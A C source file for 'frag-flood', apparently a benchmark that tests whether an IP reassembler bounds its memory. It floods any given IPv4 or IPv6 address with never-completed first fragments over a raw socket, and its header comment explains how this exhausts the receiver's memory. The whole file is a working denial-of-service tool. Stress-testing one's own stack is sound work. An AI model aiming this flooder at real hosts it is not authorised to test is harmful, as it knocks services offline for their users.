/*
 * frag-flood: the memory question of `make bench` (part 5). It sends the
 * first fragment of one echo request after another to one address, at a
 * fixed rate, for a fixed time, each with its own identification, and never
 * the rest of any of them:
 *
 *   frag-flood [-r RATE] [-t SECONDS] [-s BYTES] ADDRESS
 *
 * Each is a first fragment (offset 0, more-fragments set) carrying BYTES of
 * the datagram (default: what a link with an MTU of 1500 carries, 1480
 * bytes after an IPv4 header; 1448 after an IPv6 one and its fragment
 * header, the most that fits and is a multiple of 8, as Linux cuts them:
 * a packet of 1496 bytes), the start of an echo request that would be
 * longer. A host that reassembles must hold each one, waiting for the
 * rest, until its timeout (Linux: net.ipv4.ipfrag_time, 30 s; IPv6's
 * ip6frag_time, 60 s); what it holds meanwhile must stay under its limit
 * (Linux: net.ipv4.ipfrag_high_thresh, net.ipv6.ip6frag_high_thresh). That
 * is the attack: a few packets a second cost nothing to send and, without
 * a bound, all of the receiver's memory.
 *
 * The packets go out through a raw socket of protocol IPPROTO_RAW (root, or
 * CAP_NET_RAW), whose header we write: for IPv4 the kernel only fills in
 * the source address (we leave it 0.0.0.0: the route's) and the header
 * checksum; IPv6 has no header checksum, and its source is the one the
 * kernel would choose for that destination (asked with a UDP socket's
 * connect()). Identifications count up from 1, so 65535 datagrams can be
 * pending from one source before one repeats. An open loop on purpose: a
 * flooder does not wait. The last line:
 *
 *   sent N (N/s) first fragments of N bytes, none completed
 */
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

enum {
    MAX_RATE = 1000000,
    IPV4_HEADER = 20,
    IPV6_HEADER = 40,
    FRAGMENT_HEADER = 8,            /* IPv6's (RFC 8200 4.5) */
    ECHO_HEADER = 8,
    MORE_FRAGMENTS = 0x2000,        /* IPv4's flag; IPv6's M is the lowest bit */
};

static double now_s(void)
{
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

static void put16(uint8_t *at, unsigned value)
{
    at[0] = (uint8_t)(value >> 8);
    at[1] = (uint8_t)value;
}

/* The first fragment of echo request number `id`: an IPv4 header, then the
 * first `bytes` bytes of the datagram (its ICMP header and data). The ICMP
 * checksum would cover the whole datagram, which never comes: it stays 0,
 * and no host looks at it before the datagram is whole. */
static size_t first_fragment(uint8_t *packet, size_t bytes, uint16_t id, const struct in_addr *to)
{
    memset(packet, 0, IPV4_HEADER + bytes);
    packet[0] = 0x45;                               /* IPv4, header of 20 bytes */
    put16(packet + 2, (unsigned)(IPV4_HEADER + bytes));
    put16(packet + 4, id);
    put16(packet + 6, MORE_FRAGMENTS);              /* offset 0, more to come */
    packet[8] = 64;                                 /* TTL */
    packet[9] = IPPROTO_ICMP;
    memcpy(packet + 16, &to->s_addr, 4);            /* source 0: the kernel fills it in */
    uint8_t *icmp = packet + IPV4_HEADER;
    icmp[0] = 8;                                    /* echo request, code 0 */
    put16(icmp + 4, 0xf1a9);                        /* its identifier: "frag" */
    put16(icmp + 6, id);                            /* its sequence number */
    for (size_t i = ECHO_HEADER; i < bytes; i++)
        icmp[i] = (uint8_t)i;
    return IPV4_HEADER + bytes;
}

/* The same for IPv6: its header, a fragment header (offset 0, M set, the
 * identification), then the start of an ICMPv6 echo request. */
static size_t first_fragment6(uint8_t *packet, size_t bytes, uint16_t id,
                              const struct in6_addr *from, const struct in6_addr *to)
{
    memset(packet, 0, IPV6_HEADER + FRAGMENT_HEADER + bytes);
    packet[0] = 0x60;                               /* IPv6 */
    put16(packet + 4, (unsigned)(FRAGMENT_HEADER + bytes));
    packet[6] = 44;                                 /* next: a fragment header */
    packet[7] = 64;                                 /* hop limit */
    memcpy(packet + 8, from, 16);
    memcpy(packet + 24, to, 16);
    uint8_t *fragment = packet + IPV6_HEADER;
    fragment[0] = 58;                               /* then ICMPv6 */
    put16(fragment + 2, 1);                         /* offset 0, M set */
    put16(fragment + 6, id);                        /* (identification's low half) */
    uint8_t *icmp = fragment + FRAGMENT_HEADER;
    icmp[0] = 128;                                  /* echo request, code 0 */
    put16(icmp + 4, 0xf1a9);
    put16(icmp + 6, id);
    for (size_t i = ECHO_HEADER; i < bytes; i++)
        icmp[i] = (uint8_t)i;
    return IPV6_HEADER + FRAGMENT_HEADER + bytes;
}

/* The source the kernel would give a packet to `to`: the one a UDP
 * socket connected to it gets (nothing is sent). */
static int source_for(const struct sockaddr_in6 *to, struct in6_addr *from)
{
    struct sockaddr_in6 mine;
    socklen_t len = sizeof mine;
    int udp = socket(AF_INET6, SOCK_DGRAM, 0);
    int ok = udp >= 0 && connect(udp, (const struct sockaddr *)to, sizeof *to) == 0 &&
             getsockname(udp, (struct sockaddr *)&mine, &len) == 0;
    if (udp >= 0)
        close(udp);
    if (ok)
        *from = mine.sin6_addr;
    return ok ? 0 : -1;
}

static int usage(void)
{
    fprintf(stderr, "usage: frag-flood [-r RATE 1..%d] [-t SECONDS] [-s BYTES 8..65000, a multiple of 8] "
            "IPV4-OR-IPV6-ADDRESS\n", MAX_RATE);
    return 2;
}

int main(int argc, char **argv)
{
    static uint8_t packet[65536 + IPV6_HEADER];
    long rate = 5000, bytes = 0;
    double seconds = 2;
    int option;

    while ((option = getopt(argc, argv, "r:t:s:")) != -1) {
        if (option == 'r')
            rate = strtol(optarg, NULL, 10);
        else if (option == 't')
            seconds = strtod(optarg, NULL);
        else if (option == 's')
            bytes = strtol(optarg, NULL, 10);
        else
            return usage();
    }
    if (optind != argc - 1 || rate < 1 || rate > MAX_RATE || !(seconds > 0))
        return usage();
    struct sockaddr_in to = {.sin_family = AF_INET};
    struct sockaddr_in6 to6 = {.sin6_family = AF_INET6};
    struct in6_addr from6 = IN6ADDR_ANY_INIT;
    int ipv6 = inet_pton(AF_INET6, argv[optind], &to6.sin6_addr) == 1;
    if (!ipv6 && inet_pton(AF_INET, argv[optind], &to.sin_addr) != 1) {
        fprintf(stderr, "frag-flood: '%s' is not an IPv4 or IPv6 address: give one such as "
                "192.0.2.2 or 2001:db8::2.\n", argv[optind]);
        return 2;
    }
    if (bytes == 0)
        bytes = ipv6 ? (1500 - IPV6_HEADER - FRAGMENT_HEADER) / 8 * 8 : 1500 - IPV4_HEADER;
    /* Every fragment but a last one carries a multiple of 8 bytes (RFC 791,
     * RFC 8200 4.5). */
    if (bytes < 8 || bytes > 65000 || bytes % 8 != 0)
        return usage();
    if (ipv6 && source_for(&to6, &from6) < 0) {
        fprintf(stderr, "frag-flood: no route to %s (%s): give an address this host can reach.\n",
                argv[optind], strerror(errno));
        return 1;
    }
    /* IPPROTO_RAW implies IP_HDRINCL, and for IPv6 that we write the whole header too. */
    int raw = socket(ipv6 ? AF_INET6 : AF_INET, SOCK_RAW, IPPROTO_RAW);
    if (raw < 0) {
        fprintf(stderr, "frag-flood: cannot open a raw socket (%s): run it as root.\n", strerror(errno));
        return 1;
    }
    const struct sockaddr *where = ipv6 ? (const struct sockaddr *)&to6 : (const struct sockaddr *)&to;
    socklen_t where_len = ipv6 ? sizeof to6 : sizeof to;

    /* Fragment i leaves at start + i / rate: a fixed rate, whatever happens. */
    unsigned long sent = 0;
    double start = now_s(), end = start + seconds;
    for (unsigned long i = 0;; i++) {
        double due = start + (double)i / (double)rate, now = now_s();
        if (due >= end)
            break;
        if (due > now) {
            double wait = due - now;
            struct timespec pause = {.tv_sec = (time_t)wait, .tv_nsec = (long)((wait - (double)(time_t)wait) * 1e9)};
            nanosleep(&pause, NULL);
        }
        uint16_t id = (uint16_t)(1 + i % 65535);
        size_t len = ipv6 ? first_fragment6(packet, (size_t)bytes, id, &from6, &to6.sin6_addr)
                          : first_fragment(packet, (size_t)bytes, id, &to.sin_addr);
        if (sendto(raw, packet, len, 0, where, where_len) < 0) {
            if (errno == ENOBUFS || errno == EAGAIN)
                continue;                           /* a full queue drops, as a wire would */
            fprintf(stderr, "frag-flood: sending failed (%s)\n", strerror(errno));
            return 1;
        }
        sent++;
    }
    double elapsed = now_s() - start;
    printf("sent %lu (%.0f/s) first fragments of %ld bytes, none completed\n", sent,
           (double)sent / elapsed, bytes);
    return 0;
}
